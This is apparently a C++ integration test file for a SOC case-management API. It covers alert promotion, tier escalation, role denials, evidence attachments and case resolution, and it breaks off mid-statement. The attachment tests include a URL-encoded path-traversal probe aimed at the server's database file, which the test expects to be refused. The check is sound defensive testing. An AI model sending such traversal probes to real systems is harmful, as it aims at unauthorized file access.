// Cases over real HTTP (SPEC 3-7, issue 4): the four seed stories as
// scenarios, every refused transition and role denial (right code, nothing
// written), concurrent promotion, bulk triage, filters, SLA timers with the
// injected clock, and notifications delivered to a webhook receiver started
// in the test.
#include <fmt/format.h>
#include <rapidjson/document.h>

#include <catch2/catch.hpp>
#include <filesystem>
#include <fstream>
#include <functional>
#include <mutex>
#include <set>
#include <sstream>
#include <stdexcept>
#include <string>
#include <thread>
#include <vector>

#include "api/http_message.h"
#include "api/http_server.h"
#include "core/clock.h"
#include "core/crypto.h"
#include "tests/support/test_files.h"
#include "tests/support/test_server.h"
#include "tests/support/webhook_receiver.h"

namespace wf::test {
namespace {

constexpr int64_t kMinute = 60'000;
constexpr int64_t kHour = 60 * kMinute;

// ---------------------------------------------------------------------------
// JSON reading for assertions.


// Element `i` of an array member (a null value when out of range).
const rapidjson::Value& Item(const rapidjson::Value& array, rapidjson::SizeType i) {
  static const rapidjson::Value kNull;
  if (!array.IsArray() || i >= array.Size()) return kNull;
  return array[i];
}

std::vector<std::string> Strings(const rapidjson::Value& array) {
  std::vector<std::string> out;
  if (!array.IsArray()) return out;
  for (const auto& e : array.GetArray()) {
    if (e.IsString()) out.emplace_back(e.GetString(), e.GetStringLength());
  }
  return out;
}

std::string At(int64_t ms) { return FormatRfc3339(ms); }

bool Has(const std::string& haystack, const std::string& needle) {
  return haystack.find(needle) != std::string::npos;
}


std::string SampleTemplate(const std::string& name) {
  return ReadSample("templates/" + name + ".json");
}

std::vector<std::string> SampleTaskTitles(const std::string& name) {
  auto doc = ParseJson(SampleTemplate(name));
  std::vector<std::string> out;
  for (const auto& t : Member(doc, "tasks").GetArray()) out.push_back(Text(t, "title"));
  return out;
}

// ---------------------------------------------------------------------------
// A SOC on a fresh server: an ingest key and one user per role.

struct Soc {
  explicit Soc(const std::function<void(Config&)>& tweak = {}) : s(tweak) {
    key = s.CreateApiKey("siem");
    ana = s.CreateUserToken("ana", "l1");
    bob = s.CreateUserToken("bob", "l1");
    lee = s.CreateUserToken("lee", "l2");
    max = s.CreateUserToken("max", "l3");
    mia = s.CreateUserToken("mia", "manager");
    aud = s.CreateUserToken("aud", "auditor");
  }

  // Posts one generic alert with the ingest key; returns its id.
  std::string Ingest(const std::string& body) {
    auto r = s.Post("/api/v1/ingest/generic", body, key);
    INFO(r.body);
    REQUIRE((r.status == 201 || r.status == 200));
    return JsonField(r.body, "id");
  }

  // A manager loads samples/templates/<name>.json.
  void LoadTemplate(const std::string& name) {
    auto r = s.Post("/api/v1/case-templates", SampleTemplate(name), mia);
    INFO(r.body);
    REQUIRE(r.status == 201);
  }

  // Promotes an alert as `token`, requiring 201; returns the case JSON.
  std::string Promote(const std::string& alert, const std::string& token,
                      const std::string& body = "{}") {
    auto r = s.Post("/api/v1/alerts/" + alert + "/promote", body, token);
    INFO(r.body);
    REQUIRE(r.status == 201);
    return r.body;
  }

  // Creates a case with POST /cases as `token`, requiring 201; returns its number.
  std::string Create(const std::string& token, const std::string& body) {
    auto r = s.Post("/api/v1/cases", body, token);
    INFO(r.body);
    REQUIRE(r.status == 201);
    return JsonField(r.body, "number");
  }

  // Sends a request that must succeed with `status`; returns the body.
  std::string Ok(int status, const ClientResponse& r) {
    INFO(r.body);
    REQUIRE(r.status == status);
    return r.body;
  }

  std::string Case(const std::string& ref) { return Ok(200, s.Get("/api/v1/cases/" + ref, mia)); }

  TestServer s;
  std::string key, ana, bob, lee, max, mia, aud;
};

struct Event {
  std::string kind, actor, time, body;
};

std::vector<Event> Timeline(Soc& soc, const std::string& ref) {
  auto r = soc.s.Get("/api/v1/cases/" + ref + "/timeline", soc.aud);
  INFO(r.body);
  REQUIRE(r.status == 200);
  auto doc = ParseJson(r.body);
  std::vector<Event> out;
  for (const auto& e : Member(doc, "events").GetArray()) {
    out.push_back({Text(e, "kind"), Text(e, "actor"), Text(e, "time"), Text(e, "body")});
  }
  return out;
}

std::vector<std::string> Kinds(const std::vector<Event>& events) {
  std::vector<std::string> out;
  for (const auto& e : events) out.push_back(e.kind);
  return out;
}

std::vector<std::string> TaskIds(Soc& soc, const std::string& ref) {
  auto doc = ParseJson(soc.Ok(200, soc.s.Get("/api/v1/cases/" + ref + "/tasks", soc.aud)));
  std::vector<std::string> out;
  for (const auto& t : Member(doc, "tasks").GetArray()) out.push_back(Text(t, "id"));
  return out;
}

std::vector<std::string> CaseNumbers(const std::string& list_body) {
  auto doc = ParseJson(list_body);
  std::vector<std::string> out;
  for (const auto& c : Member(doc, "cases").GetArray()) out.push_back(Text(c, "number"));
  return out;
}

// Everything a refused request must leave as it was: the row counts of every
// table it could touch, the alerts' and tasks' states, the SLA policies, the
// case sequence and the case as the API shows it.
std::string Snapshot(Soc& soc, const std::string& case_ref = "") {
  TestServer& s = soc.s;
  std::string out;
  for (const auto& [table, n] : s.Counts()) out += fmt::format("{}={} ", table, n);
  for (const char* table :
       {"cases", "case_events", "case_tags", "tasks", "task_logs", "attachments",
        "case_attachments", "outbox", "case_templates", "sessions"}) {
    out += fmt::format("{}={} ", table, s.QueryInt(fmt::format("SELECT COUNT(*) FROM {}", table)));
  }
  out += fmt::format("seq={} ", s.QueryInt("SELECT COALESCE(SUM(last), 0) FROM case_sequences"));
  out += fmt::format(
      "alert_states={} ",
      s.QueryInt("SELECT COALESCE(SUM(CASE status WHEN 'new' THEN 1 WHEN 'updated' THEN 10 "
                 "WHEN 'ignored' THEN 100 ELSE 1000 END * id), 0) FROM alerts"));
  out += fmt::format(
      "task_states={} ",
      s.QueryInt("SELECT COALESCE(SUM(CASE status WHEN 'waiting' THEN 1 WHEN 'in_progress' "
                 "THEN 10 WHEN 'completed' THEN 100 ELSE 1000 END * id), 0) FROM tasks"));
  out += fmt::format("case_states={} ",
                     s.QueryInt("SELECT COALESCE(SUM(updated_at % 1000003 + tier + "
                                "severity * 7 + COALESCE(assignee_id, 0) * 13), 0) FROM cases"));
  out += fmt::format(
      "sla_policies={} ",
      s.QueryInt(
          "SELECT SUM(severity * (ack_minutes * 1000 + resolve_minutes * 7 + auto_escalate)) "
          "FROM sla_policies"));
  out +=
      fmt::format("templates={} ", s.QueryInt("SELECT COALESCE(SUM(length(name) + length(tasks) + "
                                              "updated_at % 1000003), 0) FROM case_templates"));
  if (!case_ref.empty()) out += "\ncase: " + soc.Case(case_ref);
  return out;
}

// Sends a request that must be refused with `status`, checks the problem
// detail names each of `detail_has`, and that nothing changed.
void ExpectRefused(Soc& soc, const std::string& case_ref, const std::string& what, int status,
                   const std::function<ClientResponse()>& request,
                   const std::vector<std::string>& detail_has = {}) {
  INFO(what);
  std::string before = Snapshot(soc, case_ref);
  ClientResponse r = request();
  INFO(r.body);
  CHECK(r.status == status);
  CHECK(r.Header("content-type") == "application/problem+json");
  std::string detail = JsonField(r.body, "detail");
  for (const auto& d : detail_has) {
    INFO("the detail names '" << d << "'");
    CHECK(Has(detail, d));
  }
  CHECK(Snapshot(soc, case_ref) == before);
}


std::string HookUrl(uint16_t port) { return fmt::format("http://127.0.0.1:{}/hooks/soc", port); }

// ---------------------------------------------------------------------------
// Alerts of the stories, in the generic ingest format.

constexpr char kSuspiciousLoginAlert[] = R"({
  "source": "entra-id", "source_ref": "risky-signin:jdoe:0852",
  "title": "Risky sign-in for jdoe@example.com from an unfamiliar location",
  "description": "Successful sign-in from 198.51.100.23 (hosting ASN) 40 minutes after a sign-in from Paris; MFA approved by push.",
  "severity": "medium", "event_time": "2026-11-23T08:52:00Z", "tags": ["identity", "impossible-travel"],
  "observables": [{"type": "ip", "value": "198.51.100.23"}, {"type": "mail", "value": "jdoe@example.com"},
                  {"type": "user", "value": "jdoe"}]
})";

constexpr char kPhishingAlert[] = R"({
  "source": "m365-defender", "source_ref": "user-reported:AAMkAGI2",
  "title": "User-reported phishing: Invoice 4471 overdue",
  "description": "Reported by j.martin@example.com. Sender billing@examp1e-invoices.com, attachment Invoice_4471.docm.",
  "severity": "medium", "tags": ["phishing", "user-reported"],
  "observables": [{"type": "mail", "value": "billing@examp1e-invoices.com"},
                  {"type": "domain", "value": "examp1e-invoices.com"},
                  {"type": "filename", "value": "Invoice_4471.docm"}]
})";

constexpr char kMalwareAlert[] = R"({
  "source": "edr-prod", "source_ref": "detection:8812:wks-042",
  "title": "Qakbot loader detected on wks-042",
  "description": "rundll32 loaded C:\\Users\\pdupont\\AppData\\Roaming\\Ijaqw\\ijaqw.dll; beacon to 203.0.113.50:443.",
  "severity": "high", "tags": ["malware", "edr"],
  "observables": [{"type": "hostname", "value": "wks-042"}, {"type": "ip", "value": "203.0.113.50", "ioc": true}]
})";

constexpr char kBeaconingAlert[] = R"({
  "source": "zeek", "source_ref": "beacon:db-3:203.0.113.77",
  "title": "Beaconing from db-3 to 203.0.113.77 every 60 s",
  "severity": "high", "tags": ["c2"],
  "observables": [{"type": "hostname", "value": "db-3"}, {"type": "ip", "value": "203.0.113.77"}]
})";

std::string SimpleAlert(int i, const std::string& severity = "low") {
  return fmt::format(
      R"({{"source":"ids-1","source_ref":"sig-{}","title":"Alert {}","severity":"{}"}})", i, i,
      severity);
}

// ===========================================================================
// Story 1: an L1 analyst promotes a suspicious-login alert and documents the
// analysis as task logs and comments.

TEST_CASE(
    "Cases: an L1 analyst promotes a suspicious-login alert and documents the analysis on the "
    "timeline",
    "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  const int64_t t0 = kTestEpochMs;
  soc.LoadTemplate("suspicious-login");
  std::string alert = soc.Ingest(kSuspiciousLoginAlert);

  s.clock().Advance(kMinute);  // 09:01
  auto created = ParseJson(soc.Promote(alert, soc.ana, R"({"template":"suspicious-login"})"));
  CHECK(Text(created, "number") == "SOC-2026-001");
  CHECK(Text(created, "title") == "Risky sign-in for jdoe@example.com from an unfamiliar location");
  CHECK(Has(Text(created, "description"), "198.51.100.23"));
  CHECK(Text(created, "severity") == "medium");
  CHECK(Text(created, "tier") == "L1");
  CHECK(Text(created, "status") == "open");
  CHECK(Text(created, "assignee") == "null");
  CHECK(Text(created, "template") == "suspicious-login");
  CHECK(Text(created, "created_by") == "user:ana");
  CHECK(Text(created, "created_at") == At(t0 + kMinute));
  CHECK(Strings(Member(created, "tags")) ==
        std::vector<std::string>{"identity", "impossible-travel", "suspicious-login"});
  // Medium: 4 h to acknowledge, 3 days to resolve.
  CHECK(Text(Member(created, "sla"), "ack_due") == At(t0 + kMinute + 4 * kHour));
  CHECK(Text(Member(created, "sla"), "resolve_due") == At(t0 + kMinute + 72 * kHour));
  std::string id = Text(created, "id");

  // The alert is imported and linked; TLP/PAP and every observable carried over.
  auto a = ParseJson(soc.Ok(200, s.Get("/api/v1/alerts/" + alert, soc.ana)));
  CHECK(Text(a, "status") == "imported");
  CHECK(Text(a, "case_id") == id);
  CHECK(Text(created, "tlp") == Text(a, "tlp"));
  CHECK(Text(created, "pap") == Text(a, "pap"));
  // By number or by id: the same case, with its alert and observables.
  auto by_number = ParseJson(soc.Ok(200, s.Get("/api/v1/cases/SOC-2026-001", soc.ana)));
  CHECK(Text(by_number, "id") == id);
  CHECK(soc.Ok(200, s.Get("/api/v1/cases/" + id, soc.ana)) ==
        soc.Ok(200, s.Get("/api/v1/cases/SOC-2026-001", soc.ana)));
  REQUIRE(Member(by_number, "alerts").IsArray());
  REQUIRE(Member(by_number, "alerts").Size() == 1);
  CHECK(std::to_string(Item(Member(by_number, "alerts"), 0).GetInt64()) == alert);
  std::set<std::string> observed;
  for (const auto& o : Member(by_number, "observables").GetArray()) {
    observed.insert(Text(o, "type") + ":" + Text(o, "value"));
  }
  CHECK(observed ==
        std::set<std::string>{"ip:198.51.100.23", "mail:jdoe@example.com", "user:jdoe"});
  CHECK(Text(by_number, "open_tasks") == "7");

  // The template's tasks, in order.
  auto tasks_doc = ParseJson(soc.Ok(200, s.Get("/api/v1/cases/SOC-2026-001/tasks", soc.ana)));
  std::vector<std::string> titles;
  for (const auto& t : Member(tasks_doc, "tasks").GetArray()) titles.push_back(Text(t, "title"));
  CHECK(titles == SampleTaskTitles("suspicious-login"));
  std::vector<std::string> tasks = TaskIds(soc, "SOC-2026-001");
  REQUIRE(tasks.size() == 7);

  // The analyst works the case, one step a minute.
  const std::string verify_log =
      "Called jdoe on the desk phone at 09:04: not travelling, was in the Paris office all "
      "morning. "
      "Denies approving any MFA push.";
  const std::string ip_log =
      "198.51.100.23: AS64500 (VPS hosting), listed on two blocklists for password spraying; "
      "geolocated in Singapore, 40 min after a Paris sign-in: impossible travel.";
  const std::string comment =
      "**Assessment**: account takeover is likely (MFA fatigue).\n\n"
      "- next: revoke sessions, reset credentials\n- then: check inbox rules";
  s.clock().Advance(kMinute);  // 09:02
  CHECK(Text(ParseJson(soc.Ok(200, s.Post("/api/v1/cases/SOC-2026-001/assign",
                                          R"({"assignee":"ana"})", soc.ana))),
             "assignee") == "ana");
  s.clock().Advance(kMinute);  // 09:03
  auto ack = ParseJson(
      soc.Ok(200, s.Patch("/api/v1/cases/SOC-2026-001", R"({"status":"in_progress"})", soc.ana)));
  CHECK(Text(ack, "status") == "in_progress");
  CHECK(Text(ack, "acknowledged_at") == At(t0 + 3 * kMinute));
  s.clock().Advance(kMinute);  // 09:04
  soc.Ok(200, s.Patch("/api/v1/tasks/" + tasks[0], R"({"status":"in_progress"})", soc.ana));
  s.clock().Advance(kMinute);  // 09:05
  auto log1 =
      ParseJson(soc.Ok(201, s.Post("/api/v1/tasks/" + tasks[0] + "/logs",
                                   fmt::format(R"({{"body":"{}"}})", verify_log), soc.ana)));
  CHECK(Text(log1, "actor") == "user:ana");
  CHECK(Text(log1, "time") == At(t0 + 5 * kMinute));
  s.clock().Advance(kMinute);  // 09:06
  soc.Ok(201, s.Post("/api/v1/tasks/" + tasks[1] + "/logs",
                     fmt::format(R"({{"body":"{}"}})", ip_log), soc.ana));
  s.clock().Advance(kMinute);  // 09:07
  auto c = ParseJson(soc.Ok(
      201,
      s.Post(
          "/api/v1/cases/SOC-2026-001/comments",
          R"({"body":"**Assessment**: account takeover is likely (MFA fatigue).\n\n- next: revoke sessions, reset credentials\n- then: check inbox rules"})",
          soc.ana)));
  CHECK(Text(c, "body") == comment);
  s.clock().Advance(kMinute);  // 09:08
  auto done = ParseJson(
      soc.Ok(200, s.Patch("/api/v1/tasks/" + tasks[0], R"({"status":"completed"})", soc.ana)));
  CHECK(Text(done, "status") == "completed");
  CHECK(Text(done, "completed_at") == At(t0 + 8 * kMinute));

  // The timeline: every step in order, with who and when.
  auto events = Timeline(soc, "SOC-2026-001");
  CHECK(Kinds(events) == std::vector<std::string>{"created", "alert_promoted", "assigned",
                                                  "status_changed", "task_status", "task_log",
                                                  "task_log", "comment", "task_status"});
  const std::vector<int64_t> minutes = {1, 1, 2, 3, 4, 5, 6, 7, 8};
  REQUIRE(events.size() == minutes.size());
  for (size_t i = 0; i < events.size(); ++i) {
    INFO("event " << i << " " << events[i].kind);
    CHECK(events[i].actor == "user:ana");
    CHECK(events[i].time == At(t0 + minutes[i] * kMinute));
  }
  CHECK(Has(events[1].body, "#" + alert));
  CHECK(Has(events[3].body, "in_progress"));
  CHECK(Has(events[5].body, verify_log));
  CHECK(Has(events[6].body, ip_log));
  CHECK(events[7].body == comment);

  // Comments alone, and the tasks with their logs.
  auto comments = ParseJson(soc.Ok(200, s.Get("/api/v1/cases/SOC-2026-001/comments", soc.aud)));
  REQUIRE(Member(comments, "comments").Size() == 1);
  CHECK(Text(Item(Member(comments, "comments"), 0), "body") == comment);
  auto with_logs = ParseJson(soc.Ok(200, s.Get("/api/v1/cases/SOC-2026-001/tasks", soc.aud)));
  const auto& first = Item(Member(with_logs, "tasks"), 0);
  REQUIRE(Member(first, "logs").Size() == 1);
  CHECK(Text(Item(Member(first, "logs"), 0), "body") == verify_log);
  CHECK(Text(Item(Member(first, "logs"), 0), "actor") == "user:ana");

  // Every change is in the audit trail, by the analyst.
  for (const char* action : {"case.create", "alert.promote", "case.assign", "case.update",
                             "task.update", "task.log", "case.comment"}) {
    INFO(action);
    CHECK(s.QueryInt(fmt::format(
              "SELECT COUNT(*) FROM audit_log WHERE action = '{}' AND actor = 'user:ana'",
              action)) >= 1);
  }
  CHECK(s.QueryInt("SELECT COUNT(*) FROM audit_log WHERE action = 'task.log'") == 2);
  CHECK(JsonField(soc.Ok(200, s.Get("/api/v1/audit/verify", soc.mia)), "ok") == "true");
}

// ===========================================================================
// Story 2: a phishing alert handled by L1 is escalated to L2 after a
// malicious attachment is confirmed.

TEST_CASE(
    "Cases: a phishing case escalated to L2 becomes high, leaves L1's hands and is picked up by L2",
    "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  soc.LoadTemplate("phishing");
  std::string alert = soc.Ingest(kPhishingAlert);
  auto created = ParseJson(soc.Promote(alert, soc.ana, R"({"template":"phishing"})"));
  const std::string ref = Text(created, "number");
  CHECK(ref == "SOC-2026-001");
  CHECK(Text(created, "severity") == "medium");

  // The template's tasks appear on the case, in order.
  auto tasks_doc = ParseJson(soc.Ok(200, s.Get("/api/v1/cases/" + ref + "/tasks", soc.ana)));
  std::vector<std::string> titles;
  for (const auto& t : Member(tasks_doc, "tasks").GetArray()) {
    titles.push_back(Text(t, "title"));
    CHECK(Text(t, "status") == "waiting");
  }
  CHECK(titles == SampleTaskTitles("phishing"));
  REQUIRE(titles.size() == 8);
  std::vector<std::string> tasks = TaskIds(soc, ref);

  // L1 works it: the sandbox says the attachment is malicious.
  s.clock().Advance(5 * kMinute);
  soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.ana));
  soc.Ok(200, s.Patch("/api/v1/tasks/" + tasks[2], R"({"status":"in_progress"})", soc.ana));
  soc.Ok(
      201,
      s.Post(
          "/api/v1/tasks/" + tasks[2] + "/logs",
          R"({"body":"Invoice_4471.docm detonated: macro drops a Qakbot DLL and calls 203.0.113.50. Malicious."})",
          soc.ana));
  soc.Ok(
      201,
      s.Post(
          "/api/v1/cases/" + ref + "/observables",
          R"({"type":"hash","value":"9f2b7c1d0e4a5b6c7d8e9f00112233445566778899aabbccddeeff0011223344","ioc":true})",
          soc.ana));
  CHECK(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.escalated'") == 0);

  s.clock().Advance(5 * kMinute);
  const std::string reason =
      "Malicious attachment confirmed in the sandbox; 3 recipients opened it.";
  auto escalated = ParseJson(
      soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/escalate",
                         fmt::format(R"({{"tier":"L2","reason":"{}"}})", reason), soc.ana)));
  CHECK(Text(escalated, "status") == "escalated");
  CHECK(Text(escalated, "tier") == "L2");
  CHECK(Text(escalated, "severity") == "high");  // raised to L2's floor
  CHECK(Text(escalated, "assignee") == "null");

  auto events = Timeline(soc, ref);
  REQUIRE_FALSE(events.empty());
  const Event& esc = events.back();
  CHECK(esc.kind == "escalated");
  CHECK(esc.actor == "user:ana");
  CHECK(Has(esc.body, "L1 → L2"));
  CHECK(Has(esc.body, "medium → high"));
  CHECK(Has(esc.body, reason));
  // Notified, and audited.
  CHECK(s.QueryInt("SELECT COUNT(*) FROM outbox WHERE event = 'case.escalated' AND payload LIKE "
                   "'%SOC-2026-001%' AND payload LIKE '%3 recipients opened it%'") == 1);
  CHECK(
      s.QueryInt(
          "SELECT COUNT(*) FROM audit_log WHERE action = 'case.escalate' AND actor = 'user:ana'") ==
      1);

  // The L1 analyst can no longer change it; reading is still fine.
  ExpectRefused(soc, ref, "L1 comments on the L2 case", 403,
                [&] {
                  return s.Post("/api/v1/cases/" + ref + "/comments", R"({"body":"still looking"})",
                                soc.ana);
                },
                {"L2"});
  ExpectRefused(soc, ref, "L1 edits the L2 case", 403,
                [&] { return s.Patch("/api/v1/cases/" + ref, R"({"title":"changed"})", soc.ana); });
  ExpectRefused(soc, ref, "L1 logs on a task of the L2 case", 403, [&] {
    return s.Post("/api/v1/tasks/" + tasks[2] + "/logs", R"({"body":"more"})", soc.ana);
  });
  ExpectRefused(soc, ref, "L1 takes the L2 case", 403, [&] {
    return s.Post("/api/v1/cases/" + ref + "/assign", R"({"assignee":"ana"})", soc.ana);
  });
  CHECK(soc.Ok(200, s.Get("/api/v1/cases/" + ref, soc.ana)).size() > 0);

  // An L2 responder picks it up by assigning themselves: in_progress.
  s.clock().Advance(2 * kMinute);
  auto picked = ParseJson(
      soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/assign", R"({"assignee":"lee"})", soc.lee)));
  CHECK(Text(picked, "status") == "in_progress");
  CHECK(Text(picked, "assignee") == "lee");
  CHECK(Text(picked, "tier") == "L2");
  CHECK(Text(picked, "severity") == "high");
  events = Timeline(soc, ref);
  CHECK(events.back().kind == "assigned");
  CHECK(events.back().actor == "user:lee");
  CHECK(Has(events.back().body, "in_progress"));
  soc.Ok(201, s.Post("/api/v1/cases/" + ref + "/comments",
                     R"({"body":"Taking over: purge first."})", soc.lee));
}

TEST_CASE("Cases: a case picked up by L2 through in_progress leaves escalated without an assignee",
          "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  std::string ref =
      soc.Create(soc.ana, R"({"title":"Lateral movement from wks-9","severity":"low"})");
  soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/escalate",
                     R"({"tier":"L3","reason":"domain admin involved"})", soc.ana));
  auto c = ParseJson(soc.Case(ref));
  CHECK(Text(c, "tier") == "L3");
  CHECK(Text(c, "severity") == "high");
  ExpectRefused(soc, ref, "L2 cannot move an L3 case", 403, [&] {
    return s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.lee);
  });
  auto moved = ParseJson(
      soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.max)));
  CHECK(Text(moved, "status") == "in_progress");
  CHECK(Text(moved, "tier") == "L3");
}

// ===========================================================================
// Story 3: after malware removal the responder attaches evidence, documents
// the root cause and resolution, resolves and closes.

std::string BinarySample() {
  std::string data = "MZ";
  data.push_back('\0');
  for (int i = 0; i < 4093; ++i) data.push_back(static_cast<char>((i * 7 + 3) & 0xff));
  return data;
}

TEST_CASE(
    "Cases: evidence is stored by hash, downloaded byte-identical, and the case resolves, closes "
    "and "
    "gets feedback",
    "[cases]") {
  Soc soc;
  TestServer& s = soc.s;
  soc.LoadTemplate("malware-on-host");
  std::string alert = soc.Ingest(kMalwareAlert);
  auto created = ParseJson(soc.Promote(alert, soc.ana, R"({"template":"malware-on-host"})"));
  const std::string ref = Text(created, "number");
  CHECK(Text(created, "severity") == "high");
  soc.Ok(200, s.Patch("/api/v1/cases/" + ref, R"({"status":"in_progress"})", soc.ana));
  soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/escalate",
                     R"({"tier":"L2","reason":"Qakbot confirmed: containment and scoping needed"})",
                     soc.ana));
  soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/assign", R"({"assignee":"lee"})", soc.lee));
  std::vector<std::string> tasks = TaskIds(soc, ref);
  const std::vector<std::string> titles = SampleTaskTitles("malware-on-host");
  REQUIRE(tasks.size() == titles.size());
  REQUIRE(tasks.size() == 8);

  // Evidence as a raw body with Content-Disposition.
  s.clock().Advance(kHour);
  const std::string sample = BinarySample();
  const std::string sample_sha = crypto::Sha256Hex(sample);
  auto raw = s.client().Request("POST", "/api/v1/cases/" + ref + "/attachments", sample,
                                {{"Content-Type", "application/octet-stream"},
                                 {"Content-Disposition", "attachment; filename=\"sample.bin\""},
                                 {"Authorization", "Bearer " + soc.lee}});
  auto att = ParseJson(soc.Ok(201, raw));
  CHECK(Text(att, "sha256") == sample_sha);
  CHECK(Text(att, "filename") == "sample.bin");
  CHECK(Text(att, "content_type") == "application/octet-stream");
  CHECK(Text(att, "size") == std::to_string(sample.size()));
  CHECK(Text(att, "uploaded_by") == "user:lee");
  CHECK(Text(att, "download") == "/api/v1/attachments/" + sample_sha);

  // Evidence as multipart/form-data, with a plain field before the file.
  const std::string triage =
      "wks-042 triage 2026-11-23\nijaqw.dll removed, run key deleted, scan clean.\n";
  const std::string triage_sha = crypto::Sha256Hex(triage);
  const std::string boundary = "----wfBoundary7MA4YWxkTrZu0gW";
  std::string multipart =
      "--" + boundary +
      "\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nfrom the EDR\r\n" + "--" +
      boundary +
      "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"triage-wks-042.txt\"\r\n"
      "Content-Type: text/plain\r\n\r\n" +
      triage + "\r\n--" + boundary + "--\r\n";
  auto mp = ParseJson(soc.Ok(201, s.Post("/api/v1/cases/" + ref + "/attachments", multipart,
                                         soc.lee, "multipart/form-data; boundary=" + boundary)));
  CHECK(Text(mp, "sha256") == triage_sha);
  CHECK(Text(mp, "filename") == "triage-wks-042.txt");
  CHECK(Text(mp, "content_type") == "text/plain");
  CHECK(Text(mp, "size") == std::to_string(triage.size()));

  // On disk, next to the database, content-addressed; nothing else there.
  const std::filesystem::path dir = std::filesystem::path(s.dir()) / "attachments";
  const auto sample_path = dir / sample_sha.substr(0, 2) / sample_sha;
  const auto triage_path = dir / triage_sha.substr(0, 2) / triage_sha;
  REQUIRE(std::filesystem::is_regular_file(sample_path));
  CHECK(ReadFile(sample_path.string()) == sample);
  CHECK(ReadFile(triage_path.string()) == triage);
  std::set<std::string> files;
  for (const auto& e : std::filesystem::recursive_directory_iterator(dir)) {
    if (e.is_regular_file()) files.insert(e.path().string());
  }
  CHECK(files == std::set<std::string>{sample_path.string(), triage_path.string()});

  // Downloaded back byte-identical, as a download with the original name.
  auto down = s.Get("/api/v1/attachments/" + sample_sha, soc.aud);
  REQUIRE(down.status == 200);
  CHECK(down.body == sample);
  CHECK(down.Header("content-type") == "application/octet-stream");
  CHECK(down.Header("content-disposition").rfind("attachment; filename=\"sample.bin\"", 0) == 0);
  auto down2 = s.Get("/api/v1/attachments/" + triage_sha, soc.ana);
  REQUIRE(down2.status == 200);
  CHECK(down2.body == triage);
  CHECK(down2.Header("content-type") == "application/octet-stream");
  CHECK(Has(down2.Header("content-disposition"), "filename=\"triage-wks-042.txt\""));
  CHECK(s.Get("/api/v1/attachments/" + std::string(64, '0'), soc.ana).status == 404);
  CHECK(s.Get("/api/v1/attachments/..%2F..%2Fwatchfloor.db", soc.ana).status == 404);
  auto listed = ParseJson(soc.Ok(200, s.Get("/api/v1/cases/" + ref + "/attachments", soc.aud)));
  CHECK(Member(listed, "attachments").Size() == 2);
  // The evidence's hash is an observable of the case.
  CHECK(Has(soc.Ok(200, s.Get("/api/v1/cases/" + ref + "/observables", soc.aud)), sample_sha));

  // Root cause and resolution documented on the tasks and in a comment.
  soc.Ok(
      201,
      s.Post(
          "/api/v1/tasks/" + tasks[7] + "/logs",
          R"({"body":"Entry: Invoice_4471.docm from the phishing wave SOC-2026-000, macros enabled by the user."})",
          soc.lee));
  soc.Ok(
      201,
      s.Post("/api/v1/cases/" + ref + "/comments",
             R"({"body":"Host reimaged, credentials of pdupont reset, C2 blocked at the proxy."})",
             soc.lee));

  const std::string root_cause =
      "Macro-enabled Office attachment opened by the user; macros were allowed by policy for the "
      "Finance OU.";
  const std::string notes =
      "Host reimaged; C2 203.0.113.50 blocked; no other host found with the hash.";
  ExpectRefused(
      soc, ref, "true_positive without root_cause", 422,
      [&] {
        return s.Post(
            "/api/v1/cases/" + ref + "/resolve",
            fmt::format(R"({{"resolution":"true_positive","resolution_notes":"{}"}})", notes),
            soc.lee);
      },
      {"root_cause"});
  ExpectRefused(soc, ref, "resolution without notes", 422,
                [&] {
                  return s.Post("/api/v1/cases/" + ref + "/resolve",
                                fmt::format(R"({{"resolution":"true_positive","root_cause":"{}"}})",
                                            root_cause),
                                soc.lee);
                },
                {"resolution_notes"});
  const std::string resolve_body =
      fmt::format(R"({{"resolution":"true_positive","resolution_notes":"{}","root_cause":"{}"}})",
                  notes, root_cause);
  std::vector<std::string> all_titles(titles.begin(), titles.end());
  ExpectRefused(
      soc, ref, "resolve with every task open", 409,
      [&] { return s.Post("/api/v1/cases/" + ref + "/resolve", resolve_body, soc.lee); },
      all_titles);

  // Every task but the last completed, one cancelled: still refused, naming only the last.
  for (size_t i = 0; i + 1 < tasks.size(); ++i) {
    const char* status = i == 1 ? "cancelled" : "completed";
    soc.Ok(200, s.Patch("/api/v1/tasks/" + tasks[i], fmt::format(R"({{"status":"{}"}})", status),
                        soc.lee));
  }
  auto r = s.Post("/api/v1/cases/" + ref + "/resolve", resolve_body, soc.lee);
  CHECK(r.status == 409);
  CHECK(Has(JsonField(r.body, "detail"), titles[7]));
  CHECK_FALSE(Has(JsonField(r.body, "detail"), titles[0]));
  CHECK_FALSE(Has(JsonField(r.body, "detail"), titles[1]));
  soc.Ok(200, s.Patch("/api/v1/tasks/" + tasks[7], R"({"status":"completed"})", soc.lee));

  s.clock().Advance(kHour);
  const int64_t resolved_at = s.clock().NowMs();
  auto resolved =
      ParseJson(soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/resolve", resolve_body, soc.lee)));
  CHECK(Text(resolved, "status") == "resolved");
  CHECK(Text(resolved, "resolution") == "true_positive");
  CHECK(Text(resolved, "root_cause") == root_cause);
  CHECK(Text(resolved, "resolution_notes") == notes);
  CHECK(Text(resolved, "resolved_at") == At(resolved_at));
  CHECK(Text(Member(resolved, "sla"), "remaining_ms") == "null");

  s.clock().Advance(kMinute);
  auto closed = ParseJson(soc.Ok(200, s.Post("/api/v1/cases/" + ref + "/close", "", soc.lee)));
  CHECK(Text(closed, "status") == "closed");
  CHECK(Text(closed, "closed_at") == At(resolved_at + kMinute));
  ExpectRefused(soc, ref, "a task on a closed case", 409, [&] {
    return s.Post("/api/v1/cases/" + ref + "/tasks", R"({"title":"one more"})", soc.lee);
  });

  // The manager reviews it.
  auto fb = ParseJson(soc.Ok(
